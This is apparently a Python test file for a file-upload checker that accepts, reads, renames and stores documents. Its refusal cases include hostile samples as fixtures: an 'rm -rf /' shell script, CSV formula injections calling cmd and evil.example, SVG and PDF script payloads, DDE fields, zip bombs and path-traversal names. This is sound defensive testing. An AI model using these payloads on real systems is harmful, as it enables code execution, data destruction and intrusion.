"""What may be sent as a file, by its name and its content; what is read of it; what is kept."""

import io
import os
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Final

import pytest

from remit.errors import BadInput
from remit.files import checks, reader
from remit.files.kept_files import KeptFiles
from tests.files.documents import GIF, JPEG, PNG, WEBP, docx, packed, pdf, xlsx
from tests.tables import for_each

_MACROS: Final = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}


def _related(kind: str, target: str, mode: str = "External") -> str:
    """A list of parts with one that is elsewhere."""
    one = f'<Relationship Type="u/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>"


def _encrypted() -> bytes:
    raw = bytearray(packed({"a.txt": b"x"}))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.index(mark) + place] |= 1
    return bytes(raw)


def _twice() -> bytes:
    """An archive whose list counts one content many times, as the densest bombs do."""
    raw = packed({"a.txt": os.urandom(20_000)})
    start = raw.index(b"PK\x01\x02")
    entry, end = raw[start : raw.index(b"PK\x05\x06")], bytearray(raw[raw.index(b"PK\x05\x06") :])
    more = entry[:-5] + b"b.txt"
    end[8:12] = (2).to_bytes(2, "little") * 2
    end[12:16] = (2 * len(entry)).to_bytes(4, "little")
    return raw[:start] + entry + more + bytes(end)


def _link() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def _packed_objects(
    objects: bytes, name: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode", before: bytes = b""
) -> bytes:
    """A PDF that hides objects in a compressed stream."""
    stream = zlib.compress(objects, 9)
    said = before, name, filters, len(stream)
    head = b"9 0 obj\n<< %s /Type %s /Filter %s /Length %d >>" % said
    whole = pdf("x")
    return whole.replace(b"xref\n0", head + b"\nstream\n" + stream + b"\nendstream\nxref\n0")


GOOD: Final = {
    "report.pdf": pdf("Parks"),
    "Brief an Özge.docx": docx("Parks"),
    "prices.xlsx": xlsx(("Park", 2)),
    "prices.csv": b"park,price\nLumphini,-3\nRama IX,+49 170 1\n",
    "notes.md": b"# Parks\n",
    "map.png": PNG,
    "map.gif": GIF,
    "map.jpg": JPEG + JPEG + bytes(3),  # as cameras write a preview behind the picture
    "map.webp": WEBP,
    "plan.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "drawn.svg": b'<!DOCTYPE svg><svg xmlns:x="u"><use x:href="#a" fill="url(\'#b\')"/>'
    b'<image href="data:image/png;base64,AA"/></svg>',
    "chart.docx": docx("x", {"word/embeddings/sheet.xlsx": xlsx(("Park", 2))}),
    "link.docx": docx(
        "x", {"word/_rels/document.xml.rels": _related("hyperlink", "https://a.test")}
    ),
    "packed.pdf": _packed_objects(b"<< /Type /Catalog >>", filters=b"[ /FlateDecode ]"),
    "Console.txt": b"x",
    "all.zip": packed({"a/notes.txt": b"x", "prices.csv": b"a,b\n"}),
    "data.json": b'{"a": 1}',
}


def _svg(inner: bytes) -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="u">' + inner + b"</svg>"


_MIXED: Final = b"/DecodeParms << /Predictor 12 /Columns 1 >> "
_ACTIVE: Final = (
    b'<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    b'<a x:href="&#106;avascript:alert(1)"/>',
    b'<a x:href="java&#9;script:alert(1)"/>',
    b'<a x:href="&#x68;ttps://evil.example/"/>',
    b'<image href="ftp://evil.example/x"/>',
    b'<use href="data:image/svg+xml;base64,AA"/>',
    b"<style>@import '//evil.example/x.css'</style>",
    b'<rect fill="url(https://evil.example/x#a)"/>',
    b'<set attributeName="onclick" to="alert(1)"/>',
    b'<?xml-stylesheet href="x.xsl"?>',
)
_RELS: Final = "word/_rels/settings.xml.rels"
_AWAY: Final = "https://evil.example/t.dotm"
_BAD_PARTS: Final = (  # a name, the parts of a document, and a word of the sentence
    ("remote", {_RELS: _related("attachedTemplate", _AWAY)}, "from elsewhere"),
    ("remote", {_RELS: _related("attached&#84;emplate", _AWAY, "Ext&#101;rnal")}, "from elsewhere"),
    ("remote", {_RELS: _related("image", _AWAY)}, "from elsewhere"),
    ("remote", {_RELS: _related("image", _AWAY).encode("utf-16")}, "definition"),
    ("inner", {"word/embeddings/a.xlsm": b"PK"}, "macros or a program"),
    ("inner", {"word/media/a.png": b"MZ\x90\0"}, "macros or a program"),
    ("inner", {"word/embeddings/a.docx": docx("x", _MACROS)}, "macros or a program"),
    ("inner", {"word/a.docx": docx("x", {"word/b.docx": docx("x")})}, "in each other"),
    ("field", {"word/a.xml": "<instrText>D</instrText><instrText>DE x</instrText>"}, "a field"),
    ("field", {"word/a.xml": '<fldSimple instr="DDEAUTO c:/cmd"/>'}, "a field"),
    ("half", {_RELS: "<Relationships>"}, "not a whole document"),
)


# The name, the content, and a word of the sentence.
def _bad() -> tuple[tuple[str, bytes, str], ...]:
    return (
        ("../report.pdf", pdf("x"), "dot or blank"),
        ("/etc/report.pdf", pdf("x"), "sign that no name"),
        ("a\0.pdf", pdf("x"), "hidden or control"),
        ("report\u202efdp.exe.pdf", pdf("x"), "hidden or control"),
        ("re\u200bport.pdf", pdf("x"), "hidden or control"),
        (".hidden.pdf", pdf("x"), "dot or blank"),
        ("a" * 130 + ".pdf", pdf("x"), "longer than"),
        ("x | y].csv", b"a", "sign that no name"),
        *(
            (name, b"x", "a device of")
            for name in ("CON.txt", "nul.tar.txt", "com1 .md", "Lpt\u00b2.md")
        ),
        ("empty.txt", b"", "is empty"),
        ("large.txt", b"x" * (checks.MAX_BYTES + 1), "at most"),
        ("program.exe", b"MZ\x90", "a kind that is not sent"),
        ("page.html", b"<html></html>", "a kind that is not sent"),
        ("noend", b"x", "a kind that is not sent"),
        ("report.pdf", b"MZ\x90\0", "by its content"),
        ("notes.txt", b"#!/bin/sh\nrm -rf /", "by its content"),
        ("notes.txt", b"<script>alert(1)</script>", "by its content"),
        ("notes.txt", b"caf\xe9", "by its content"),
        ("map.png", b"\xff\xd8\xff\xe0", "by its content"),
        ("polyglot.pdf", pdf("x") + packed({"a.txt": b"x"}), "an archive at the same time"),
        ("polyglot.pdf", b"%PDF-1.4\n<html><script>x</script>\n%%EOF", "holds a script"),
        ("polyglot.png", PNG + b"%PDF-1.4", "a PDF at the same time"),
        ("polyglot.png", PNG + b"<script>alert(1)</script>", "holds a script"),
        ("polyglot.png", PNG + b"MZ\x90\0", "behind the picture"),
        ("polyglot.png", PNG + b"Rar!\x1a\x07\0", "an archive at the same time"),
        ("polyglot.pdf", pdf("x") + b"MZ\x90\0", "not a whole PDF"),
        ("polyglot.gif", b"GIF89a/*" + GIF[8:-1] + b"!\xfe\x0d*/=alert(1)/*\0;", "a script at"),
        ("polyglot.gif", b"GIF89a=1;alert(1)", "a script at"),
        ("polyglot.gif", GIF + b"fetch('/')", "behind the picture"),
        ("polyglot.jpg", JPEG[:4] + b"/*" + JPEG[6:], "a script at"),
        ("polyglot.jpg", JPEG + b"MZ\x90\0", "behind the picture"),
        ("polyglot.webp", b"RIFF/*\0\0WEBPVP8 */=alert(1)", "a script at"),
        ("half.gif", GIF[:-1], "not a whole picture"),
        ("half.png", PNG[:-12], "not a whole picture"),
        ("half.jpg", JPEG[:-2], "not a whole picture"),
        ("many.jpg", b"\xff\xd8\xff\xd9" * 100_000 + b"x", "behind the picture"),
        ("half.webp", WEBP[:-1], "not a whole picture"),
        ("half.pdf", pdf("x")[:200], "not a whole PDF"),
        ("locked.pdf", pdf("x", "/Encrypt 9 0 R"), "encrypted"),
        ("acts.pdf", pdf("x", "/OpenAction << /S /J#61vaScript >>"), "that acts"),
        ("acts.pdf", pdf("x", "/AA << /S /Launch >>"), "that acts"),
        ("acts.pdf", _packed_objects(b"<< /S /JavaScript /JS (x) >>"), "that acts"),
        ("acts.pdf", _packed_objects(b"/JS", b"/Obj#53tm"), "that acts"),
        ("acts.pdf", _packed_objects(b"/JS", filters=b"/LZWDecode"), "cannot be unpacked"),
        ("acts.pdf", _packed_objects(b"2F4A53>", filters=b"[/FlateDecode /A]"), "unpacked"),
        ("acts.pdf", _packed_objects(b"\0/\0J\0S", before=_MIXED), "cannot be unpacked"),
        ("acts.pdf", _packed_objects(b"\0/\0J\0S", before=_MIXED + b"%9 0 obj <<\n"), "unpacked"),
        ("acts.pdf", pdf("x", "/OpenAction << /S /GoToR /F (x) >>"), "that acts"),
        ("bomb.pdf", _packed_objects(b"0" * 120_000_000), "cannot be unpacked"),
        ("script.svg", b"<svg><script>alert(1)</script></svg>", "by its content"),
        ("script.svg", b"<svg onload='x()'></svg>", "script or loads"),
        ("loads.svg", b"<svg><image href='https://evil.example/x'/></svg>", "script or loads"),
        *((f"{n}.svg", _svg(inner), "script or loads") for n, inner in enumerate(_ACTIVE)),
        ("acts.csv", "\uff1dcmd|'/c calc'!A1\n".encode(), "formula"),
        ("acts.csv", b'a,=HYPERLINK("http://evil.example")\n', "formula"),
        ("acts.csv", b"=cmd|'/c calc'!A1\n", "formula"),
        ("macros.docx", docx("x", _MACROS), "macros"),
        *((f"{name}.docx", docx("x", parts), word) for name, parts, word in _BAD_PARTS),
        (
            "entity.docx",
            docx("x", {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
            "definition",
        ),
        ("bomb.docx", docx("x" * 30_000_000), "fill a disk"),
        ("bomb.zip", packed({"a.txt": b"0" * 120_000_000}), "fill a disk"),
        ("twice.zip", _twice(), "fill a disk"),
        ("locked.zip", _encrypted(), "encrypted"),
        ("link.zip", _link(), "leads out"),
        ("away.zip", packed({"C:/a.txt": b"x"}), "leads out"),
        ("inner.zip", packed({"aux.txt": b"x"}), "a device of"),
        ("away.zip", packed({"../a.txt": b"x"}), "leads out"),
        ("inner.zip", packed({"setup.exe": b"MZ"}), "a program"),
        ("inner.zip", packed({"inner.zip": packed({"a.txt": b"x"})}), "holds an archive itself"),
        ("inner.zip", packed({"a.docx": docx("x", _MACROS)}), "macros"),
        ("inner.zip", packed({"a.txt": b"MZ\0"}), "by its content"),
        ("before.zip", b"PK\x03\x04" + packed({"a.txt": b"x"}), "before it"),
        ("half.zip", packed({"a.txt": b"x"})[:40], "not a whole archive"),
        ("half.docx", docx("x")[:-30], "by its content"),
    )


def test_a_good_file_may_be_sent() -> None:
    for name, content in GOOD.items():
        assert checks.problem(name, content) is None, name


def test_a_bad_file_is_refused_with_a_sentence() -> None:
    said = [(name, word, checks.problem(name, content)) for name, content, word in _bad()]

    assert [each for each in said if each[1] not in (each[2] or "")] == []


@for_each(
    ("name", "content", "words"),
    [
        ("a.pdf", pdf("Parks of Bangkok"), ["Parks of Bangkok"]),
        ("a.docx", docx("Parks"), ["Parks"]),
        ("a.xlsx", xlsx(("Lumphini", 3), ("Rama", 4)), ["Lumphini\t3", "Rama\t4"]),
        ("a.zip", packed({"n.txt": b"one", "d.docx": docx("two")}), ["n.txt", "one", "two"]),
        ("a.csv", b"a,b\n", ["a,b"]),
    ],
)
async def test_the_text_of_a_file_is_read(name: str, content: bytes, words: list[str]) -> None:
    said = await reader.text_of(name, checks.detect(name, content), content)

    assert [word for word in words if word not in said] == []


@for_each(
    ("name", "content", "why"),
    [
        ("a.png", PNG, "no text"),
        ("a.docx", docx("x" * 30_000_000), "fill a disk"),
        ("a.docx", docx("x", {"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "XML"),
        ("a.pdf", b"%PDF-1.4\nnothing else", "cannot be read"),
        ("a.zip", _encrypted(), "encrypted"),
    ],
)
async def test_what_cannot_be_read_is_said(name: str, content: bytes, why: str) -> None:
    with pytest.raises(BadInput, match=why):
        await reader.text_of(name, checks.detect(name, content), content)


async def test_a_reader_that_does_not_end_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "SECONDS", 0.2)
    with pytest.raises(BadInput, match="too long"):
        await reader.text_of("a.pdf", checks.PDF, pdf("x"), ("sh", "-c", "sleep 60"))


def test_a_name_from_outside_leads_nowhere() -> None:
    names = {
        "../../etc/passwd": "passwd",
        "C:\\x\\a.pdf": "a.pdf",
        "a\u202ecod.exe": "acod.exe",
        "x/CON.txt": "_CON.txt",
        "\0": "file",
        "..": "file",
        "a|b[c].pdf": "a_b_c_.pdf",
        "ü" * 200 + ".pdf": "ü" * 58 + ".pdf",
    }
    for given, wanted in names.items():
        assert checks.safe_name(given) == wanted


def test_a_content_is_kept_once_and_never_believed_unchecked(tmp_path: Path) -> None:
    kept = KeptFiles(tmp_path / "files")
    first, second = kept.keep("a.txt", b"x"), kept.keep("b.txt", b"x", made=True)
    assert first.sha256 == second.sha256
    assert kept.room() == (1, 1)
    assert kept.read(first.sha256) == b"x"
    with pytest.raises(BadInput, match="at most"):
        kept.keep("c.txt", b"x" * (checks.MAX_BYTES + 1))

    (kept.folder / first.sha256).write_bytes(b"y")
    assert kept.read(first.sha256) is None, "changed on the disk"
    assert kept.keep("a.txt", b"x") == first
    assert kept.read(first.sha256) == b"x", "and written anew"
    (kept.folder / first.sha256).unlink()
    (kept.folder / first.sha256).symlink_to(tmp_path / "elsewhere")
    assert kept.read(first.sha256) is None
    assert kept.read("../a") is None


def test_only_what_nothing_refers_to_is_removed(tmp_path: Path) -> None:
    kept, now = KeptFiles(tmp_path / "files"), datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    assert kept.sweep((), (), now) == 0
    names = [kept.keep(name, name.encode()).sha256 for name in ("a", "b", "c")]
    for each in names:
        os.utime(kept.folder / each, (now.timestamp(), now.timestamp()))

    assert kept.sweep({names[0]}, {names[1]}, now) == 1, "of a deleted task at once"
    assert [kept.read(each) is not None for each in names] == [True, False, True]
    assert kept.sweep({names[0]}, (), now + timedelta(days=2)) == 1, "others after a day"
    assert [kept.read(each) is not None for each in names] == [True, False, False]
